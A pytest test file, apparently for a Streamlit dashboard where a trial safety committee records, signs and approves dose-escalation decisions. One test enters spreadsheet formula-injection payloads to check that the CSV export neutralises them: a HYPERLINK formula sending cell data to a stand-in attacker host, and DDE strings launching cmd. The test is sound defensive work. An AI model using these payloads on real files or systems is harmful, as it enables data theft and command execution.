"""AppTest: the Escalation page's decision form, history table and chart markers, on a copy of the demo
database so each test starts with no decision log."""
from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import sqlite3
from pathlib import Path

import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from smc.decision_log import ledger
from smc.ui import pages
from smc.ui.text import WORD_JOINER
from tests.helpers import STUDIES, TEST_ISSUER, app_test, as_of_dates, claims, data_cut, figures, run_app

ESCALATION = pages.script("escalation")


@pytest.fixture()
def fresh_db(demo_db, tmp_path, monkeypatch):
    """A copy of the demo database served by the app, with no decision log beside it."""
    path = tmp_path / "cut.duckdb"
    shutil.copy(demo_db, path)
    monkeypatch.setenv("SMC_DB", str(path))
    return path


def stored(db_path) -> list[sqlite3.Row]:
    """The log's rows, read with sqlite3 directly (not through smc.decisions)."""
    log = db_path.with_name("cut.decisions.sqlite")
    if not log.exists():
        return []
    con = sqlite3.connect(log)
    con.row_factory = sqlite3.Row
    try:
        return con.execute("SELECT * FROM decisions ORDER BY id").fetchall()
    finally:
        con.close()


def fill(at, *, word=None, level=None, rationale="", attendees="", follows=None, supersedes=None):
    """Fill the form (word/level first: changing them resets "follows"), click Record and rerun."""
    if word is not None:
        at.selectbox(key="decision_word").set_value(word).run()
    if level is not None:
        at.selectbox(key="decision_level").set_value(level).run()
    if follows is not None:
        at.checkbox(key="decision_follows").set_value(follows)
    if supersedes is not None:
        at.selectbox(key="decision_supersedes").set_value(supersedes)
    at.text_area(key="decision_rationale").input(rationale)
    at.text_input(key="decision_attendees").input(attendees)
    at.button(key="decision_record").click().run()
    assert not at.exception, [e.message for e in at.exception]
    return at


def open_escalation(study_id: str, as_of: dt.date) -> AppTest:
    """The page without run_app's no-error assertion (a broken log is an error box by design)."""
    at = app_test()
    at.query_params.update({"study": study_id, "as_of": as_of.isoformat()})
    at.run()
    at.switch_page(ESCALATION).run()
    assert not at.exception, [e.message for e in at.exception]
    return at


def decision_table(at):
    return next(d.value for d in at.dataframe if "Record" in d.value.columns)


def history_decision_traces(at) -> list[dict]:
    history = next(f for f in figures(at) if "Escalation history" in f["layout"]["title"]["text"])
    return [t for t in history["data"] if t["name"].startswith("SMC decision")]


def other_level(sql, study_id: str, level: int) -> int:
    return next(lv for (lv,) in sql("SELECT level FROM dose_levels WHERE study_id = ? ORDER BY level", study_id)
                if lv != level)


@pytest.mark.parametrize("study_id", STUDIES)
def test_form_starts_at_the_rules_recommendation(fresh_db, sql, study_id):
    """Prefill: the decision word shown as the rule's action, follows ticked, at every as-of date."""
    for as_of in as_of_dates(sql, study_id)[:2]:
        at = run_app(study_id, as_of, ESCALATION)
        action = at.markdown[[m.value for m in at.markdown].index("##### Protocol rule") + 1].value
        # "### `de-escalate` 3×10^9 cells": the word between the backticks, the level's label after them
        word, target = action.split("`")[1], action.split("`")[2].strip()
        assert at.selectbox(key="decision_word").value == word
        if target:
            assert at.selectbox(key="decision_level").value == sql(
                "SELECT level FROM dose_levels WHERE study_id = ? AND label = ?", study_id, target)[0][0]
        assert at.checkbox(key="decision_follows").value is True
        levels = sql("SELECT level, label FROM dose_levels WHERE study_id = ? ORDER BY level", study_id)
        assert at.selectbox(key="decision_level").options == [f"{label} (level {lv})" for lv, label in levels]
        assert at.info[-1].value.startswith(f"No decision recorded for {study_id} yet")


def test_deviation_without_rationale_is_refused_and_nothing_is_written(fresh_db, sql):
    study_id = "IX001"
    at = run_app(study_id, data_cut(sql, study_id), ESCALATION)
    recommended = at.selectbox(key="decision_word").value
    deviation = "stay" if recommended not in ("enroll", "wait", "stay") else "escalate"
    fill(at, word=deviation)
    assert at.checkbox(key="decision_follows").value is False  # changing the decision recomputed it
    assert any("rationale" in e.value and "deviates" in e.value for e in at.error)
    assert stored(fresh_db) == []


def test_claiming_to_follow_a_different_decision_is_refused(fresh_db, sql):
    study_id = "IDOV-SAFE"
    at = run_app(study_id, data_cut(sql, study_id), ESCALATION)
    level = int(at.selectbox(key="decision_level").value)
    fill(at, level=other_level(sql, study_id, level), follows=True, rationale="")
    assert any("is not the recommendation" in e.value for e in at.error)
    assert stored(fresh_db) == []


def test_recorded_decisions_show_in_table_chart_and_file(fresh_db, sql):
    """A followed decision needs no rationale; a deviation with one is kept; a correction supersedes it."""
    study_id = "BIOTTT001"
    cut = data_cut(sql, study_id)
    at = run_app(study_id, cut, ESCALATION)
    word, level = at.selectbox(key="decision_word").value, int(at.selectbox(key="decision_level").value)
    fill(at, attendees="A, B, C")
    assert not at.error
    at.user = claims("chair", name='Dr "Two" <a href="x">')  # the signer's name is the token's, as it is
    fill(at, level=other_level(sql, study_id, level), rationale="Sponsor asked <b>to wait</b> for PK")
    assert not at.error and at.success

    rows = stored(fresh_db)
    assert [(r["id"], r["seq"], r["decision"], r["follows_recommendation"]) for r in rows] == [
        (1, 1, word, 1), (2, 2, word, 0)]
    assert rows[0]["level"] == level and rows[1]["level"] != level
    assert rows[1]["rationale"] == "Sponsor asked <b>to wait</b> for PK" and rows[0]["attendees"] == "A, B, C"
    assert rows[1]["prev_hash"] == rows[0]["hash"] and rows[0]["data_cut_date"] == cut.isoformat()
    assert rows[0]["meeting_date"] == dt.datetime.now(dt.UTC).date().isoformat()

    table = decision_table(at)
    assert list(table["Record"]) == [2, 1]  # newest first
    traces = {t["name"]: t for t in history_decision_traces(at)}
    assert traces["SMC decision (follows the rule)"]["x"] == [cut.isoformat()]
    assert traces["SMC decision (deviation)"]["x"] == [cut.isoformat()]
    hover = traces["SMC decision (deviation)"]["customdata"][0]  # user text escaped, quotes kept as typed
    assert hover[5] == "Sponsor asked &lt;b&gt;to wait&lt;/b&gt; for PK"
    assert hover[6] == 'Dr "Two" &lt;a href="x"&gt;'

    # Correct record 2: it stays in the table, marked, and leaves the chart.
    fill(at, supersedes=2, rationale="Corrected: the SMC followed the rule")
    assert [r["supersedes"] for r in stored(fresh_db)] == [None, None, 2]
    table = decision_table(at)
    assert table.set_index("Record").loc[2, "Superseded by"] == "#3"
    shown = [x for t in history_decision_traces(at) for x in t["customdata"]]
    assert sorted(c[0] for c in shown) == [1, 3]
    assert ledger.verify(ledger.log_path(fresh_db)) == []


def test_decisions_on_later_data_are_not_drawn_on_an_earlier_view(fresh_db, sql):
    study_id = "IX001"
    cut = data_cut(sql, study_id)
    fill(run_app(study_id, cut, ESCALATION), rationale="")
    assert len(stored(fresh_db)) == 1
    earlier = run_app(study_id, as_of_dates(sql, study_id)[1], ESCALATION)
    assert history_decision_traces(earlier) == []
    assert list(decision_table(earlier)["Record"]) == [1]  # the table lists every record


def test_a_tampered_log_is_shown_as_broken(fresh_db, sql):
    study_id = "IX001"
    at = run_app(study_id, data_cut(sql, study_id), ESCALATION)
    fill(at)
    fill(at, rationale="second, a deviation", word="other")
    con = sqlite3.connect(fresh_db.with_name("cut.decisions.sqlite"))
    con.executescript("DROP TRIGGER decisions_no_update; UPDATE decisions SET recorded_by = 'Mallory' WHERE id = 1;")
    con.close()
    at = open_escalation(study_id, data_cut(sql, study_id))
    messages = [e.value for e in at.error]
    assert any("altered outside the dashboard" in m and "record #1" in m and "decisions_no_update" in m
               for m in messages), messages


def test_the_decision_log_csv_neutralises_formulas(fresh_db, sql, monkeypatch):
    """The history table's CSV, as the download button delivers it (its deferred callable run by Streamlit's own
    media file manager, as on a click): text a spreadsheet would run starts with ', numbers stay numbers."""
    managers = []

    class Kept(MediaFileManager):  # the real manager, kept so the test can ask it for the file after the run
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            managers.append(self)

    monkeypatch.setattr("streamlit.testing.v1.app_test.MediaFileManager", Kept)
    study_id = "IX001"
    at = run_app(study_id, data_cut(sql, study_id), ESCALATION, user=claims("chair", name="-2+3 ＝Dr Chair"))
    rationale = '=HYPERLINK("http://evil.example/?d="&A1,"Click")\n@SUM(1+9)*cmd|\' /C calc\'!A0'
    fill(at, word="other", rationale=rationale, attendees="  +cmd|' /C notepad'!A0")
    assert at.success and len(stored(fresh_db)) == 1
    url = managers[-1].execute_deferred(at.download_button(key="decision_csv").proto.deferred_file_id)
    data = managers[-1].read_file(Path(url).stem).content
    header, row = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))  # one record
    record = dict(zip(header, row))
    assert record["Rationale"] == ("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")\n"
                                   "'@SUM(1+9)*cmd|' /C calc'!A0")
    assert record["Attendees"] == "'+cmd|' /C notepad'!A0"  # stored stripped of its leading spaces
    assert record["Signed by"] == "'-2+3 ＝Dr Chair"
    assert record["Record"] == "1" and data.decode("utf-8").splitlines()[1].startswith("1,")  # a bare number


# --------------------------------------------------------------------------- signed by the signed-in member


def test_the_form_shows_the_signer_from_the_sign_in_read_only(fresh_db, sql):
    at = run_app("IX001", data_cut(sql, "IX001"), ESCALATION, user="member")
    assert [t.label for t in at.text_input if "by" in t.label.lower()] == []  # no name to type
    signer = next(m.value for m in at.markdown if m.value.startswith("**Signed by**")).replace(WORD_JOINER, "")
    assert "Dr Ben Member" in signer and "member@smc.example" in signer and "SMC member" in signer
    assert "*recorded as SMC member*" in signer
    assert "Corrects record" not in [s.label for s in at.selectbox]  # only the chair supersedes
    fill(at)
    (row,) = stored(fresh_db)
    assert (row["recorded_by"], row["signer_issuer"], row["signer_subject"], row["signer_email"], row["signer_role"],
            row["signature_meaning"]) == ("Dr Ben Member", TEST_ISSUER, "member", "member@smc.example", "smc_member",
                                          "recorded as SMC member")
    table = decision_table(at)
    assert table.loc[0, ["Signed by", "Role", "Meaning", "Status"]].tolist() == [
        "Dr Ben Member", "SMC member", "recorded as SMC member", "awaiting the chair's approval"]


def test_the_chair_approves_a_members_decision_and_the_table_says_so(fresh_db, sql):
    cut = data_cut(sql, "IX001")
    fill(run_app("IX001", cut, ESCALATION, user="member"))
    at = run_app("IX001", cut, ESCALATION, user="chair")
    assert at.selectbox(key="decision_to_approve").value == 1
    at.button(key="decision_approve").click().run()
    assert any("Approved #1 as #2" in s.value for s in at.success)
    rows = stored(fresh_db)
    assert [(r["kind"], r["approves"], r["signer_subject"], r["signature_meaning"]) for r in rows] == [
        ("decision", None, "member", "recorded as SMC member"), ("approval", 1, "chair", "approved as SMC chair")]
    table = decision_table(at).set_index("Record")
    assert table.loc[1, "Status"] == "approved by the chair (#2)" and table.loc[2, "Kind"] == "approval of #1"
    assert ledger.verify(ledger.log_path(fresh_db)) == []
    assert any("No recorded decision awaits the chair's approval" in c.value for c in at.caption)


def test_a_signature_without_a_fresh_sign_in_is_refused_and_offers_one(fresh_db, sql):
    """The token's auth_time ten minutes old: the page says so and offers a new sign-in; the ledger refuses."""
    at = run_app("IX001", data_cut(sql, "IX001"), ESCALATION, user=claims("chair", signed_in_s_ago=600))
    assert any("Sign in again before you sign" in w.value for w in at.warning)
    assert at.button(key="fresh_sign_in_record").label == "Sign in again to sign"
    fill(at)
    assert any("sign in again first" in e.value and "yours was 10 minute(s) ago" in e.value for e in at.error)
    assert stored(fresh_db) == []


@pytest.mark.parametrize("user", ["sponsor", "investigator", "datamanager", "admin"])
def test_roles_that_do_not_decide_read_the_log_without_a_form(fresh_db, sql, user):
    at = run_app("IX001", data_cut(sql, "IX001"), ESCALATION, user=user)
    assert "decision_record" not in [b.key for b in at.button]
    assert any("Decisions are recorded by SMC members and approved by the chair" in c.value for c in at.caption)
